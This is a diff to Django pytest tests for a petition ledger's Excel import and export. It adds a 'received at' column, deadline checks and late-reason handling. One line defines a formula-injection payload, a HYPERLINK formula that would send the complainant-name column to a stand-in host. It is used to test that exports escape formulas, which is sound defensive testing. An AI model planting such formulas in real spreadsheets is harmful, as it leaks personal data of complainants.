@@ -4,16 +4,22 @@ of a paper ledger, all rows or none."""
 from __future__ import annotations
 
 import io
+from datetime import datetime
 from urllib.parse import urlencode
 
 import pytest
+import time_machine
+from django.utils import timezone
+from django.utils.translation import gettext as _
 from openpyxl import Workbook, load_workbook
 
 from grievances.ledger.imports import import_columns
 from grievances.ledger.tasks import export_ledger
+from petitions.deadlines import deadline_add
 from petitions.models import Petition, PetitionEvent
 from stations.models import Membership
 from stations.services import membership_grant
+from tests.clock import at
 from tests.factories import UserFactory
 from tests.grievances.test_stats import load_county_year
 
@@ -71,8 +77,8 @@ def test_export_has_the_filtered_rows_masked_for_a_clerk(
         if case.category_id == categories["infrastructure"].pk and case.region_code in east
     }
     assert {row[0] for row in body} == set(expected)
-    assert len(header) == 19
-    name, phone = 9, 10  # the complainant and the phone columns
+    assert len(header) == 20
+    name, phone = 10, 11  # the complainant and the phone columns
     for row in body:
         case = expected[row[0]]
         if case.intake_unit_id == world.units["east_centre"].pk:
@@ -115,8 +121,8 @@ def test_a_large_export_is_written_by_a_job_for_the_requester_only(client, world
     assert client.get("/staff/export/..%2F1/").status_code == 404
 
 
-# A resident's title that, run as a formula, would send the complainant column (J) away.
-FORMULA_TITLE = '=HYPERLINK("http://x/?"&J2,"查看")'
+# A resident's title that, run as a formula, would send the complainant column (K) away.
+FORMULA_TITLE = '=HYPERLINK("http://x/?"&K2,"查看")'
 
 
 def test_a_formula_typed_by_a_resident_leaves_the_export_as_text(api, client, world, categories):
@@ -140,7 +146,7 @@ def test_a_formula_typed_by_a_resident_leaves_the_export_as_text(api, client, wo
     sheet = load_workbook(io.BytesIO(streamed(response))).worksheets[0]  # not read-only: cell types
     assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
     (row,) = [row for row in sheet.iter_rows(min_row=2) if row[0].value == submitted.json()["tracking_number"]]
-    title, content, name = row[7], row[8], row[9]
+    title, content, name = row[8], row[9], row[10]
     assert (title.value, title.data_type) == ("'" + FORMULA_TITLE, "s")
     assert (content.value, content.data_type) == ("'+1+1 村道雨后塌方，车辆无法通行。", "s")
     assert name.value.startswith("'@") and name.data_type == "s"
@@ -155,7 +161,7 @@ def test_a_control_character_typed_by_a_resident_does_not_break_the_export(api, 
     response = client.get("/staff/export/")
     assert response.status_code == 200  # an .xlsx cannot hold a bell or an escape: they are left out
     (row,) = [row for row in read_xlsx(streamed(response)) if row[0] == submitted.json()["tracking_number"]]
-    assert (row[7], row[8]) == ("村道塌方", "雨后塌方。")
+    assert (row[8], row[9]) == ("村道塌方", "雨后塌方。")
 
 
 def test_an_export_with_a_filter_the_list_refuses_is_a_400_naming_it(client, world, categories):
@@ -238,7 +244,7 @@ def test_every_kind_of_bad_row_is_reported(world, categories):
     assert [(error.row, error.field) for error in result.errors] == [
         (2, "region"),
         (3, "channel"),
-        (4, "registered_on"),
+        (4, "received_on"),
         (5, "title"),
         (6, "complainant_phone"),
     ]
@@ -262,15 +268,17 @@ def test_a_clean_file_imports_every_row_with_its_events(client, world, categorie
         assert case.intake_unit == world.units["east1_desk"]
         assert case.registered_by == world.users["clerk"]
         assert case.title == f"纸质台账第{n}件"
-        assert case.acceptance_due_at is not None
-        note = case.events.get(verb=Verb.NOTE).note
-        assert f"2025-03-{1 + n % 28:02d}" in note
+        # The paper's date is when the case reached the desk; older than the window, with the reason.
+        assert timezone.localtime(case.received_at) == at(2025, 3, 1 + n % 28)
+        assert case.created_at > case.received_at
+        assert case.late_reason == "纸质台账补录"
+        assert case.acceptance_due_at > case.received_at
         if n % 4 == 0:
             assert case.status == "closed" and case.settled_on_the_spot
-            assert verbs == [Verb.REGISTERED, Verb.NOTE, Verb.SETTLED, Verb.CLOSED]
+            assert verbs == [Verb.REGISTERED, Verb.SETTLED, Verb.CLOSED]
         else:
             assert case.status == "registered"
-            assert verbs == [Verb.REGISTERED, Verb.NOTE]
+            assert verbs == [Verb.REGISTERED]
     # Category by Chinese name, channel by the ledger's word.
     assert cases[1].category.code == "land" and cases[2].category.code == "social_security"
     assert cases[1].channel == "phone"
@@ -278,6 +286,56 @@ def test_a_clean_file_imports_every_row_with_its_events(client, world, categorie
     # The stored upload is gone once imported.
     assert client.post("/staff/import/", {"action": "confirm"}).status_code == 302
     assert Petition.objects.count() == 20
+
+
+def test_a_recent_paper_date_is_received_at_without_a_reason_and_the_deadline_counts_from_it(world, categories):
+    from grievances.ledger.imports import ledger_import
+
+    rows = [good_row(n, world) for n in range(3)]
+    rows[0][3] = "2026-03-02"  # 2 working days of acceptance left
+    rows[1][3] = "2025-11-20"  # older than the 90 days: the ledger's own reason
+    rows[2][3] = "2026-03-05"  # today
+    with time_machine.travel(at(2026, 3, 5, 10, 0), tick=False):
+        result = ledger_import(
+            actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=ledger_file(rows), dry_run=False
+        )
+    assert result.errors == []
+    recent, old, today = sorted(result.created, key=lambda case: case.pk)
+    assert recent.received_at == at(2026, 3, 2) and recent.late_reason == ""
+    assert recent.created_at == at(2026, 3, 5, 10, 0)
+    assert recent.days_registered_late == 3
+    # 15 working days from the paper's date, not from the day it was typed in.
+    assert recent.acceptance_due_at == deadline_add(at(2026, 3, 2), 15, "working")
+    assert old.late_reason == "纸质台账补录"
+    assert today.received_at == at(2026, 3, 5) and today.late_reason == ""
+    registered = recent.events.get(verb=Verb.REGISTERED)
+    assert registered.data["received_at"] == at(2026, 3, 2).isoformat()
+    assert not recent.events.filter(verb=Verb.NOTE).exists()
+
+
+def test_a_paper_date_in_the_future_is_refused_by_row(world, categories):
+    from grievances.ledger.imports import ledger_import
+
+    rows = [good_row(n, world) for n in range(2)]
+    rows[1][3] = "2026-03-06"
+    with time_machine.travel(at(2026, 3, 5, 10, 0), tick=False):
+        result = ledger_import(
+            actor=world.users["clerk"], intake_unit=world.units["east1_desk"], source=ledger_file(rows), dry_run=False
+        )
+    assert [(error.row, error.field, error.message) for error in result.errors] == [
+        (3, "received_on", "日期不能晚于今天。")
+    ]
+    assert Petition.objects.count() == 0
+
+
+def test_export_shows_when_each_case_was_received_and_registered(client, world, categories, register):
+    with time_machine.travel(at(2026, 3, 5, 10, 0), tick=False):
+        case = register(received_at=at(2026, 3, 2, 9, 30)).petition
+    client.force_login(world.users["supervisor"])
+    header, row = read_xlsx(streamed(client.get("/staff/export/")))
+    assert header[:3] == (_("Tracking number"), _("Received at"), _("Registered at"))
+    assert row[0] == case.tracking_number
+    assert row[1:3] == (datetime(2026, 3, 2, 9, 30), datetime(2026, 3, 5, 10, 0))
 
 
 def test_import_template_and_who_may_import(client, world, categories):
@@ -306,7 +364,7 @@ def test_formulas_in_a_paper_ledger_are_refused_by_row_and_column(client, world,
         (4, "complainant_phone"),
         (5, "content"),
         (6, "complainant_name"),
-        (7, "registered_on"),
+        (7, "received_on"),
     ]
     page = response.content.decode()
     assert "第 3 行“标题”列是公式" in page
